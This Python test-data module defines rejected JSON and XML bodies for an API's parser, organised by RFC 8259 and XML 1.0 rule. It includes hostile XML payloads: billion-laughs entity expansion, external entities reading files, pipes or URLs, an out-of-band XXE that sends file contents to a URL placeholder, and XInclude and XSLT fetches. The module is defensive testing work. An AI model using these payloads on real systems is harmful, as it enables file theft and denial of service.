"""
Bodies that no honest client sends, each with what must come of it.

The rules of RFC 8259 and of XML 1.0 (fifth edition) are gone through as the public suites do it
(JSONTestSuite, the W3C's XML conformance suite): what each lets through, and what it does not.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Rule:
    """What one rule of a grammar lets through (in XML with the text that is read), and what not."""

    taken: dict[str, str] = field(default_factory=dict)
    refused: list[str] = field(default_factory=list)


def each(table: str) -> list[str]:
    """The cells of a table whose rows are lines and whose columns are parted by ` | `."""
    return [
        cell.strip() for line in table.splitlines() for cell in line.split(" | ") if cell.strip()
    ]


def json_rule(taken: list[str], refused: list[str]) -> Rule:
    return Rule(dict.fromkeys(taken, ""), refused)


CONTROLS = [chr(c) for c in range(0x20)]
DIGITS = "7" * 5_000

# -- JSON: a value, where nobody knows the name (RFC 8259) -----------------------------------------

JSON_VALUES = {
    "§2 blanks": json_rule(
        ["\t\r\n 1 \n\r\t", "[ 1\t,\n2\r]", '{ "a"\n:\t1\r, "b" : 2 }'],
        [*(blank + "1" for blank in "\v\f\xa0\ufeff\u2028\u3000\0"), "[1,\x002]", "1\x1a"],
    ),
    "§2 comments": json_rule(
        each('"/* x */" | "// x" | "#"'),
        [*each("/* x */ 1 | [1, /* x */ 2] | <!-- x --> 1 | 1 /**/"), "1 // x\n", "1 # x\n"],
    ),
    "§3 literals": json_rule(
        each("true | false | null"),
        each("True | TRUE | nul | nulll | NULL | None | undefined | yes | truefalse | t"),
    ),
    "§3 what is no number": json_rule(
        each('"NaN" | "Infinity"'),
        each("NaN | nan | -NaN | Infinity | -Infinity | +Infinity | Inf | \u221e | [NaN]"),
    ),
    "§4 objects": json_rule(
        each(r'{} | {"": 0} | {"a": 1, "a": 2} | {"\u0061": 1, "a": 2} | {"a": {"a": {}}}'),
        each("""
            {"a": 1,} | {,} | {,"a": 1} | {"a": 1,,"b": 2} | {"a": 1 "b": 2} | {"a"} | {"a":}
            {:1} | {"a"::1} | {"a", 1} | {"a" 1} | {a: 1} | {'a': 1} | {1: 1} | {null: 1} | {[]: 1}
            {"a": 1 | {"a": 1}} | {"a": 1] | {"a": | { | }
        """),
    ),
    "§5 arrays": json_rule(
        each('[] | [[]] | [null] | [1, "a", true, {}, []]'),
        each("""
            [1,] | [,] | [,1] | [1,,2] | [1 2] | [1;2] | [1: 2] | [1 | [1, | [, | [ | ] | [1]]
            [1} | [[1] | ["a": 1] | (1) | [1...3] | [-] | [*]
        """),
    ),
    "§6 numbers": json_rule(
        [
            *each("""
                0 | -0 | -0.0 | 10 | -1 | 1.5 | 0.000 | 1e1 | 1E+1 | 1e-1 | 0e0 | 0E+00 | 1e400
                -1e400 | 1E-400 | 1e999999999999 | 0.4e00669999999999999999999999999999999999999
            """),
            *("9" * 19, "9" * 20, "-" + "9" * 20, DIGITS, "-" + DIGITS, "0." + DIGITS),
            *("1e" + DIGITS, DIGITS + "." + DIGITS + "E-" + DIGITS),
        ],
        [
            *each("""
                01 | -01 | 00 | +1 | .5 | -.5 | 1. | 1.e1 | - | + | . | 1e | 1e+ | 1E- | e1 | 1e1.5
                1e++1 | 1ee1 | 1.5.2 | --1 | 1- | 0x1 | 0b1 | 0o7 | 1_000 | 1 000 | 1f | 1n | 1/2
                \u0661 | \uff11 | 1\u0661 | -\u0661 | 1\u00b2 | \u4e00
            """),
            *("0" * 99, "0" + DIGITS, DIGITS + "x", DIGITS + ".", "1e" + DIGITS + "."),
        ],
    ),
    "§7 texts": json_rule(
        [
            *each(r"""
                "" | "\"\\\/\b\f\n\r\t" | "\u00e9\u00C9" | "\u0000" | "\uFFFF" | "\ud83d\ude00"
                "\uD83D\uDE00" | "\ud800" | "\udc00\ud800" | "\ud800\n" | "\ud83dx\ude00"
            """),
            *('"\x7f\x80\u2028\u2029\ufeff\ufffe"', '"\U0010ffff"'),
        ],
        [
            *(f'"{control}"' for control in CONTROLS),
            *each(r"""
                "\a" | "\x41" | "\'" | "\0" | "\U0041" | "\u" | "\u12" | "\u12g4" | "\u+123"
                "\u{41}" | "\ " | "\ | " | "a | a" | 'a' | `a` | "a" "b" | "\u 123" | "\u-123"
                "\ud83d\u" | “a”
            """),
            '"\\\n"',
        ],
    ),
}

# -- JSON: whole bodies ----------------------------------------------------------------------------

PLAIN_JSON = '{"CustomerLogs": {"CustomerLog": {"Notes": "kept"}}}'
_PLAIN = PLAIN_JSON.encode()

JSON_BODIES: dict[str, list[bytes]] = {
    "§2 more than one": [
        _PLAIN + more
        for more in (b"{}", b" {}", b"[]", b"x", b"\0", b",", b"}", b"1", b"\n" + _PLAIN)
    ],
    "§2 less than one": [
        *(b"{]", b"[}", b"[\0]", b"{\0}", b"{'", b"{<", b"[<u/>]"),
        *(_PLAIN[:length] for length in range(1, len(_PLAIN))),
    ],
    "§2 no object": [b"[]", b"[1]", b"[" + _PLAIN + b"]"],
    "§8.1 another encoding": [
        PLAIN_JSON.encode(codec)
        for codec in (
            "utf-16",
            "utf-16-le",
            "utf-16-be",
            "utf-32",
            "utf-32-le",
            "utf-32-be",
            "cp037",
        )
    ],
    "§8.1 BOMs": [b"\xef\xbb\xbf" * 2 + _PLAIN, b"\xef\xbb" + _PLAIN, b"\xff\xfe" + _PLAIN],
}

BAD_UTF_8 = {
    "overlong, 2 bytes": b"\xc0\xbc",
    "overlong, 3 bytes": b"\xe0\x80\xbc",
    "overlong, 4 bytes": b"\xf0\x80\x80\xbc",
    "overlong NUL": b"\xc0\x80",
    "5 bytes": b"\xf8\x88\x80\x80\x80",
    "6 bytes": b"\xfc\x84\x80\x80\x80\x80",
    "surrogate": b"\xed\xa0\x80",
    "surrogate pair (CESU-8)": b"\xed\xa0\xbd\xed\xb8\x80",
    "over U+10FFFF": b"\xf4\x90\x80\x80",
    "continuation alone": b"\x80",
    "cut": b"\xe2\x82",
    "Latin-1": b"caf\xe9",
    "never a byte": b"\xfe",
    "BOM of UTF-16": b"\xff\xfe",
}
"""Bytes that stand nowhere in UTF-8; the overlong ones are a `<`, if somebody decodes them."""

# -- XML: what an element of text may contain (XML 1.0, by production) -----------------------------

XML_CONTENTS = {
    "[2] Char": Rule(
        {c: c for c in "\t\x7f\x85\xa0\u2028\ud7ff\ue000\ufffd\U00010000\U0010ffff"},
        [*(c for c in CONTROLS if c not in "\t\n\r"), "\ufffe", "\uffff"],
    ),
    "[11] end of line": Rule({"a\r\nb\rc\nd": "a\nb\nc\nd", "&#13;\n": "\r\n"}),
    "[14] CharData": Rule(
        {"]]&gt;": "]]>", "]>": "]>", ">": ">", "%p;": "%p;"},
        each("]]> | a ]]> b | < | a < b | <<"),
    ),
    "[15] Comment": Rule(
        {"a<!-- x -->b": "ab", "<!---->": "", "<!--<a>&b;]]-->x": "x", "<!-- - - -->c": "c"},
        each("""
            <!-- | <!-- x | <!-- x -- | <!--> | <!---> | <!-- -- --> | <!-- x ---> | <!- x ->
            <!-- \x01 -->
        """),
    ),
    "[16] PI": Rule(
        {"a<?p?>b": "ab", "<?p x ? > y?>c": "c", "<?xml-model href='x'?>d": "d"},
        each("""
            <? | <?p | <?p x? | <? p?> | <??> | <?1?> | <?xml?> | <?XML x?> | <?xMl version='1.0'?>
            <?p \x01?> | <?p:q?>
        """),
    ),
    "[18] CDSect": Rule(
        {
            "a<![CDATA[b]]>c": "abc",
            "<![CDATA[]]>": "",
            "<![CDATA[&lt;]]>": "&lt;",
            "<![CDATA[]]]]><![CDATA[>]]>": "]]>",
            "<![CDATA[<!DOCTYPE x>]]>": "<!DOCTYPE x>",
            "<![CDATA[<![CDATA[]]>": "<![CDATA[",
            "<![CDATA[a]]>\r\n<![CDATA[b]]>": "a\nb",
        },
        each("""
            <![CDATA[ | <![CDATA[x]] | <![CDATA[x]> | <![cdata[x]]> | <![CDATA [x]]>
            <! [CDATA[x]]> | <![CDATA[\0]]>
        """),
    ),
    "[28] no DTD inside": Rule(
        refused=each("""
            <!DOCTYPE x> | <!ENTITY x 'y'> | <!ELEMENT x ANY> | <!ATTLIST x> | <!NOTATION x>
            <![INCLUDE[x]]> | <![IGNORE[x]]> | <!x> | <!>
        """)
    ),
    "[40] STag": Rule(
        refused=each("""
            <a> | </a> | <a></b> | <a><b></a></b> | < a/> | <a/ > | </ a> | <a | <a/ | <a b/>
            <a b=c/> | <a b='c/> | <a b='c"/> | <a b='<'/> | <a b='&'/> | <a b='&c;'/> | <a/b/>
            <a b='1' b='2'/> | <a b='1'c='2'/> | <a b='''/> | <a></a b='1'> | <> | </> | <a =''/>
            <a 'b'/> | <a b=&quot;c&quot;/> | <a></A> | <a b='\x01'/> | <a b='\ufffe'/>
        """)
    ),
    "[5] Name": Rule(
        refused=[
            *each("<1/> | <-/> | <./> | <a%/> | <a&amp;/> | <\xd7/> | <a\u037e/> | <\u0300/>"),
            *each("<\0/> | <a\x7f/> | <\u2000/>"),
            f"<{'a' * 50_001}/>",
        ]
    ),
    "[66] CharRef": Rule(
        {
            **dict.fromkeys(("&#65;", "&#x41;", "&#0000000065;"), "A"),
            "&#13;&#xA;": "\r\n",
            "&#x1F600;": "\U0001f600",
        },
        [
            *each("""
                &#; | &#x; | &#a; | &#xg; | &#65 | &# 65; | &#X41; | &#-1; | &#0; | &#x0; | &#8;
                &#x1f; | &#xD800; | &#57343; | &#xFFFE; | &#xFFFF; | &#x110000; | &#4294967361;
                &#99999999999999999999;
            """),
            f"&#x{'f' * 1_000};",
        ],
    ),
    "[68] EntityRef": Rule(
        {"&lt;&gt;&amp;&apos;&quot;": "<>&'\"", "&amp;lt;": "&lt;"},
        [*each("& | &; | &lt | &LT; | &nbsp; | &foo; | &1; | &a b; | &&amp;"), f"&{'a' * 9_999};"],
    ),
    "Namespaces": Rule(
        refused=each("""
            <p:a/> | <a p:b=''/> | <:a/> | <a:/> | <a:b:c/> | <a xmlns:p=''/> | <a :b=''/> | <p:/>
            <a xmlns:xmlns='x'/> | <a xmlns:xml='x'/> | <xmlns:a/> | <p:a xmlns:q='x'/>
            <a xmlns='http://www.w3.org/2000/xmlns/'/>
            <a xmlns:p='x' xmlns:q='x' p:b='' q:b=''/>
        """)
    ),
}

# -- XML: what may stand where nobody knows it, and whole documents --------------------------------

XML_ELEMENTS = [
    *each("""
        <a/> | <a /> | <a></a > | <a b=''/> | <a b = 'c'  d="e"/> | <a b='>'/> | <a b='"'/> | <_/>
        <\xe9/> | <\u4e2d\u0300/> | <a-.1\xb7/> | <\U00010000/> | <a b='&lt;&#10;&#x41;'/>
        <a xml:lang='x' xml:space='odd' xml:id='1' xml:base='b'/> | <a>x<b/>y<!-- z --><b/></a>
        <p:a xmlns:p='x'/> | <a xmlns='x'><b xmlns=''/></a> | <p:a xmlns:p='p' p:b='' b=''/>
        <xml:a/>
    """),
    f"<{'a' * 50_000}/>",
    "".join(["<a", *(f" b{n}='{n}'" for n in range(20_000)), "/>"]),
    f"<a b='{'c' * 1_000_000}'/>",
    f"<a xmlns='{'n' * 900}'><b/></a>",
    "<a/>" * 20_000,
]
"""Well-formed, and nothing to us."""

PLAIN_XML = (
    "<AddCustomerLog><CustomerLogs><CustomerLog><Notes>kept</Notes></CustomerLog></CustomerLogs>"
    "</AddCustomerLog>"
)

XML_DOCUMENTS = Rule(
    {
        "<?xml version='1.0'?>{}": "",
        "<?xml version=\"1.0\" encoding='UTF-8' standalone='no' ?>{}": "",
        "<?xml version = '1.1'?>{}": "",
        "<!-- --><?p?>\n{}\n<?p?><!-- -->": "",
        "<?xml version='1.0'?>\t\r\n{} \n": "",
    },
    [
        *each("""
            {}{} | {}x | x{} | {}\0 | {}< | {}</x> | <x>{} | {}&amp; | {}<![CDATA[]]> | &#32;{}
            {}<?xml version='1.0'?> | <!-- --><?xml version='1.0'?>{}
            <?xml version='1.0'?><?xml version='1.0'?>{} | <?xml?>{} | <?xml encoding='utf-8'?>{}
            <?xml version='2.0'?>{} | <?xml version=''?>{} | <?xml version=1.0?>{}
            <?xml version='1.0' standalone='maybe'?>{} | <?xml standalone='yes' version='1.0'?>{}
            <?xml version='1.0' x='y'?>{} | <?xml version='1.0' encoding=''?>{}
            <?xml version='1.0'encoding='utf-8'?>{} | <?xml version='1.0'>{}
            <?XML version='1.0'?>{}
            <?xml version='1.0' encoding='utf-8' encoding='utf-8'?>{} | <?xml version='1.0' | <?xml
            <!----> | <?p?> | <!-- {} --> | <![CDATA[{}]]> | < | <! | <!- | <? | </x>
        """),
        *("<\v/>", "\v{}", "\f{}"),
    ],
)

# -- encodings -------------------------------------------------------------------------------------

SMUGGLED = "+ADw-b+AD4- caf\xe9 \xbcb\xbe"
"""Text that a wrong decoding would turn into markup: of UTF-7, or of Latin-1 in seven bits."""

ENCODINGS = {
    "utf-7": "UTF-7", "utf-32": "UTF-32", "utf-32-le": "UTF-32LE", "utf-32-be": "UCS-4",
    "cp037": "EBCDIC-CP-US", "cp500": "ibm500", "cp1026": "IBM1026", "shift_jis": "Shift_JIS",
    "gb18030": "GB18030", "big5": "Big5", "hz": "HZ-GB-2312", "iso2022_jp": "ISO-2022-JP",
    "koi8_r": "KOI8-R", "cp1252": "windows-1252", "iso8859_15": "ISO-8859-15",
    "utf-8": "UTF-8-MAC", "ascii": "unicode-1-1-utf-7", "latin-1": "l1",
}  # fmt: skip
"""Codecs that are not read, by the name that a declaration gives each."""

# -- documents that do things to a parser ----------------------------------------------------------

_LAUGHS = "<!ENTITY e0 'lol'>" + "".join(
    f"<!ENTITY e{n + 1} '{f'&e{n};' * 10}'>" for n in range(10)
)

DOCTYPES = {
    "bare": "<!DOCTYPE x>",
    "system": "<!DOCTYPE x SYSTEM '{file}'>",
    "system, a pipe": "<!DOCTYPE x SYSTEM '{pipe}'>",
    "public": "<!DOCTYPE x PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' '{url}'>",
    "empty": "<!DOCTYPE x []>",
    "element": "<!DOCTYPE x [<!ELEMENT x ANY>]>",
    "attributes": "<!DOCTYPE x [<!ATTLIST Notes a CDATA 'b' xmlns CDATA #FIXED 'c'>]>",
    "notation": "<!DOCTYPE x [<!NOTATION n SYSTEM '{url}'><!ENTITY e SYSTEM '{file}' NDATA n>]>",
    "laughs": f"<!DOCTYPE x [{_LAUGHS}]>",
    "laughs in an attribute": f"<!DOCTYPE x [{_LAUGHS}<!ATTLIST x a CDATA '&e10;'>]>",
    "quadratic": f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'><!ENTITY e10 '{'&a;' * 5_000}'>]>",
    "itself": "<!DOCTYPE x [<!ENTITY e10 '&e10;'>]>",
    "each other": "<!DOCTYPE x [<!ENTITY e10 '&e1;'><!ENTITY e1 '&e10;'>]>",
    "entity of a file": "<!DOCTYPE x [<!ENTITY e10 SYSTEM '{file}'>]>",
    "entity of a pipe": "<!DOCTYPE x [<!ENTITY e10 SYSTEM '{pipe}'>]>",
    "entity of an address": "<!DOCTYPE x [<!ENTITY e10 SYSTEM '{url}'>]>",
    "entity with markup": "<!DOCTYPE x [<!ENTITY e10 '<Notes>y</Notes>'>]>",
    "one of the five": "<!DOCTYPE x [<!ENTITY lt '&#38;#60;'><!ENTITY e10 'x'>]>",
    "parameter": "<!DOCTYPE x [<!ENTITY % p SYSTEM '{url}'> %p;]>",
    "parameter of a file": "<!DOCTYPE x [<!ENTITY % p SYSTEM '{file}'> %p; %p;]>",
    "parameters, nested": (
        "<!DOCTYPE x [<!ENTITY % a '&#37;b;'><!ENTITY % b \"<!ENTITY e10 'x'>\"> %a;]>"
    ),
    "out of band": (
        "<!DOCTYPE x [<!ENTITY % f SYSTEM '{file}'>"
        "<!ENTITY % o \"<!ENTITY &#37; s SYSTEM '{url}?%f;'>\"> %o; %s;]>"
    ),
    "conditional": "<!DOCTYPE x [<!ENTITY % i 'INCLUDE'><![%i;[<!ENTITY e10 'x'>]]>]>",
    "never closed": "<!DOCTYPE x [<!ENTITY e '",
    "many": "<!DOCTYPE x>" * 1_000,
    "many declarations": "<!DOCTYPE x [" + "<!ENTITY a ''>" * 300_000 + "]>",
}
"""What may stand before a root, all of it refused; `&e10;` in the text calls what it declares."""

_INSTANCE = "http://www.w3.org/2001/XMLSchema-instance"

REACHING = {
    "XInclude": (
        "<i:include xmlns:i='http://www.w3.org/2001/XInclude' parse='text' href='{file}'/>"
        "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='{url}'/>"
    ),
    "stylesheet": "<?xml-stylesheet type='text/xsl' href='{url}'?>",
    "stylesheet of a file": "<?xml-stylesheet type='text/xsl' href='{file}'?>",
    "model": "<?xml-model href='{url}' schematypens='http://relaxng.org/ns/structure/1.0'?>",
    "schema of a namespace": f"<a xmlns:i='{_INSTANCE}' i:schemaLocation='urn:x {{url}}'/>",
    "schema of no namespace": f"<a xmlns:i='{_INSTANCE}' i:noNamespaceSchemaLocation='{{file}}'/>",
    "base": "<a xml:base='{url}' href='{url}'/>",
    "namespace": "<a xmlns='{url}'/>",
    "XSLT": (
        "<t:stylesheet xmlns:t='http://www.w3.org/1999/XSL/Transform' version='1.0'>"
        "<t:import href='{url}'/><t:copy-of select=\"document('{file}')\"/></t:stylesheet>"
    ),
    "XML Schema": (
        "<s:schema xmlns:s='http://www.w3.org/2001/XMLSchema'><s:import schemaLocation='{url}'/>"
        "<s:include schemaLocation='{pipe}'/></s:schema>"
    ),
}
"""Well-formed, and it names a file or an address that a helpful parser may look at."""


# -- what may stand anywhere in a call -------------------------------------------------------------

_FILTER = {
    "LogID": ["1", "2"], "CustomerName": "Ana", "DateAddedFrom": "2026-11-23",
    "Search": "chairs", "Limit": "10", "OutputSelector": ["LogID", "Notes"],
}  # fmt: skip
_LOG = {"LogID": "1", "Notes": "x", "Status": "Completed", "DateRequiredFollowUp": "2026-11-24"}
_CUSTOMER = {
    "Username": "ana", "Password": "secret", "Active": "True", "CreditLimit": "1.50",
    "DateOfBirth": "1980-02-29", "BillingAddress": {"BillCity": "Perth"},
}  # fmt: skip
CALLS: dict[str, Any] = {
    "UpdateCustomerLog": {"CustomerLogs": {"CustomerLog": [_LOG]}, "Filter": _FILTER},
    "AddCustomerLog": {"CustomerLogs": {"CustomerLog": [_LOG, {"Notes": "x"}]}},
    "GetCustomerLog": {"Filter": _FILTER},
    "AddCustomer": {"Customer": [_CUSTOMER]},
    "UpdateCustomer": {"Customer": [_CUSTOMER]},
    "GetCustomer": {"Filter": {"Username": ["ana", "bob"], "OutputSelector": ["ID", "Username"]}},
}
"""A call to each action, with something of everything."""


def with_a_value_changed(tree: Any, value: Any) -> Iterator[Any]:
    """The tree, once for each value in it, with `value` in the place of that one."""
    yield value
    if isinstance(tree, dict):
        for name in tree:
            yield from (tree | {name: one} for one in with_a_value_changed(tree[name], value))
    elif isinstance(tree, list):
        for at in range(len(tree)):
            for one in with_a_value_changed(tree[at], value):
                yield [*tree[:at], one, *tree[at + 1 :]]


def with_a_name_changed(tree: Any, name: str) -> Iterator[Any]:
    """The tree, once for each name in it, with `name` in the place of that one."""
    if isinstance(tree, dict):
        for old in tree:
            yield {name if one == old else one: value for one, value in tree.items()}
            yield from (tree | {old: one} for one in with_a_name_changed(tree[old], name))
    elif isinstance(tree, list):
        for at in range(len(tree)):
            for one in with_a_name_changed(tree[at], name):
                yield [*tree[:at], one, *tree[at + 1 :]]


def nested(way: str, levels: int) -> bytes:
    """A call so many levels deep, in an element that nobody knows."""
    opening, closing = {
        "XML": ("<a>", "</a>"),
        "XML, attributes": ("<a b='c' xmlns:d='e'>", "</a>"),
        "XML, mixed": ("x<a>y<!-- -->", "</a>z"),
        "JSON, objects": ('{"a":', "}"),
        "JSON, arrays": ("[", "]"),
        "JSON, an item": ('{"CustomerLog":[', "]}"),
    }[way]
    times = levels // (2 if way == "JSON, an item" else 1)
    inside = f"{opening * times}{'' if 'XML' in way else '1'}{closing * times}"
    if "XML" in way:
        return f"<UpdateCustomerLog>{inside}</UpdateCustomerLog>".encode()
    return f'{{"CustomerLogs":{inside}}}'.encode()
